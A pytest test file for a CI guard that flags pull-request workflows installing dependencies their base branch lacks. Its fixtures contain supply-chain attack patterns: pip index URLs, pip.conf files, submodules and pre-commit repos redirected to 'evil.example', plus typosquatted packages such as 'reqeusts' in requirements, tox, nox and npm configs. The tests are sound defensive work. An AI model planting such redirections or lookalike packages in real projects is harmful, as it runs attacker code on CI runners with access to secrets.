"""What a pull request's workflow may have installed that its base does not: judged before the network phase runs."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from regreen.actions.step_trial import make_step_trial
from regreen.actions.workflow import plan_workflow
from regreen.packages.setup_guard import InstallRefusal, SourceTree, find_refusals

WORKFLOW = ".github/workflows/ci.yml"
EVIL = "https://evil.example/simple"
PIP = "      - run: pip install -r requirements.txt\n"
TEST = "      - run: pytest\n"
TOX = "      - run: pip install tox\n      - run: tox\n"
BASE = {
    "requirements.txt": "requests\n",
    "sub/deps.txt": "attrs\n",
    "pyproject.toml": '[project]\nname = "x"\ndependencies = ["attrs"]\n',
    "package.json": '{"name": "x", "dependencies": {"express": "^4"}}',
    "tox.ini": "[testenv]\ndeps = pytest\n",
    "noxfile.py": "import nox\n\n@nox.session\ndef t(session):\n    session.install('pytest')\n",
    ".pre-commit-config.yaml": "repos:\n- repo: https://github.com/psf/black\n  rev: '23.1.0'\n  hooks: [{id: black}]\n",
}
HOOKS = "      - uses: pre-commit/action@v3\n"
WRONG_NODE = '{"name": "x", "dependencies": {"expresss": "^4"}}'
SUBMODULE = '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'


def workflow(steps: str, env: str = "", checkout: str = "") -> str:
    given = f"    env: {{{env}}}\n" if env else ""
    start = f"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n{given}    steps:\n      - uses: actions/checkout@v4\n"
    return start + checkout + steps


def tree(files: Mapping[str, str]) -> SourceTree:
    content = {path: text.encode() for path, text in files.items()}
    return SourceTree({path: str(hash(data)) for path, data in content.items()}, content.get)


def judged(now: str, before: str | None = None, **changed: str) -> tuple[InstallRefusal, ...]:
    """What is held against a head with this workflow and these changed files."""
    base = {**BASE, WORKFLOW: before or now}
    head = {**base, WORKFLOW: now, **{name.replace("__", "/"): v for name, v in changed.items()}}
    files = tree(head)
    trial = make_step_trial(plan_workflow(now, files=files.read)[-1])
    assert trial.asked is not None
    return find_refusals(trial.asked, trial.env, files, tree(base))


INDEX = f"PIP_INDEX_URL: '{EVIL}'"
PIN = "      - run: pip install $P\n" + TEST


@pytest.mark.parametrize(
    ("now", "before"),
    [
        (workflow(PIP + TEST, env=INDEX), workflow(PIP + TEST)),
        (workflow(PIP.rstrip() + f"\n        env: {{{INDEX}}}\n" + TEST), workflow(PIP + TEST)),
        (workflow(f'      - run: echo "PIP_INDEX_URL={EVIL}" >> $GITHUB_ENV\n' + PIP + TEST), workflow(PIP + TEST)),
        (workflow(f"      - run: printf 'index-url = {EVIL}' > ~/.pip/pip.conf\n" + PIP + TEST), workflow(PIP + TEST)),
        (workflow(PIP + TEST, env="PIP_TRUSTED_HOST: somewhere"), workflow(PIP + TEST)),
        (workflow(PIN, env="P: reqeusts"), workflow(PIN, env="P: requests")),
        (workflow('      - run: echo "P=reqeusts" >> $GITHUB_ENV\n' + PIN), workflow(PIN, env="P: requests")),
        (workflow(TEST, checkout="      - uses: actions/checkout@v4\n        with: {repository: evil/x, path: x}\n"), workflow(TEST)),
        (workflow("      - uses: nick-fields/retry@v3\n        with: {command: pip install reqeusts}\n" + TEST), workflow(TEST)),
        (workflow("      - uses: actions/setup-python@v6\n        with: {pip-install: reqeusts}\n" + TEST), workflow(TEST)),
    ],
)  # fmt: skip
def test_a_workflow_cannot_bring_in_what_its_base_does_not_have(now: str, before: str) -> None:
    assert judged(now, before)
    if "reqeusts" not in now:
        assert not judged(now, now)


@pytest.mark.parametrize(
    ("steps", "changed"),
    [
        ("      - run: pip install -r deps.txt\n        working-directory: sub\n", {"sub__deps.txt": "reqeusts\n"}),
        ("      - run: cd sub && pip install -r deps.txt\n", {"sub__deps.txt": "reqeusts\n"}),
        ("      - run: pip install .\n        env: {PIP_REQUIREMENT: odd.lst}\n", {"odd.lst": "reqeusts\n"}),
        (PIP.rstrip() + "\n        env: {PIP_CONFIG_FILE: odd.conf}\n", {"odd.conf": f"index-url={EVIL}\n"}),
        ("      - uses: bahmutov/npm-install@v1\n", {"package.json": WRONG_NODE}),
        ("      - uses: pnpm/action-setup@v4\n        with: {run_install: true}\n", {"package.json": WRONG_NODE}),
        ("      - run: npm run setup\n", {"package.json": '{"scripts": {"setup": "pip install reqeusts"}}'}),
        ("      - uses: hynek/build-and-inspect-python-package@v2\n", {"pyproject.toml": '[build-system]\nrequires = ["setuptols"]\n'}),
        (HOOKS, {".pre-commit-config.yaml": BASE[".pre-commit-config.yaml"].replace("github.com/psf", "evil.example")}),
        (HOOKS, {".pre-commit-config.yaml": BASE[".pre-commit-config.yaml"].replace("black}", "black, additional_dependencies: [reqeusts]}")}),
        (TOX, {"tox.ini": "[testenv]\ndeps = reqeusts\n"}),
        (TOX, {"tox.toml": '[env_run_base]\ndeps = ["reqeusts"]\n'}),
        (TOX, {"setup.cfg": "[tox:tox]\n[testenv]\ndeps =\n  reqeusts\n"}),
        (TOX, {"pyproject.toml": '[tool.tox.env.x]\ndeps = ["reqeusts"]\n'}),
        ("      - run: uvx tox\n", {"tox.ini": "[testenv]\ndeps = reqeusts\n"}),
        ("      - run: pipx run nox -s t\n", {"noxfile.py": BASE["noxfile.py"].replace("pytest", "reqeusts")}),
        ("      - run: git submodule update --init\n", {".gitmodules": SUBMODULE}),
    ],
)  # fmt: skip
def test_what_a_step_installs_from_is_read_wherever_it_lies(
    steps: str, changed: dict[str, str]
) -> None:
    now = workflow(steps + TEST)
    assert judged(now, **changed)
    assert not judged(now)


@pytest.mark.parametrize(
    "now",
    [
        workflow(PIP + TEST, env="SERVICE: 'https://example.org/x', DATABASE_URL: 'postgres://u@localhost/x'"),
        workflow('      - run: echo "see https://docs.example.org"\n' + PIP + TEST),
        workflow("      - uses: actions/setup-node@v4\n        with: {node-version: 20}\n" + PIP + TEST),
        workflow("      - uses: astral-sh/setup-uv@v6\n" + PIP + TEST),
        workflow("      - run: uvx --from ruff python -c pass\n      - run: uvx black --check .\n" + TEST),
        workflow("      - uses: actions/setup-go@v5\n      - uses: golangci/golangci-lint-action@v6\n"),
    ],
)  # fmt: skip
def test_what_installs_nothing_is_let_pass(now: str) -> None:
    assert not judged(now, workflow(TEST), go__mod="")


def test_what_a_nox_session_runs_is_not_what_it_installs() -> None:
    runs = BASE["noxfile.py"] + "    session.run('pytest', 'reqeusts')\n"
    assert not judged(workflow("      - run: nox\n"), **{"noxfile.py": runs})
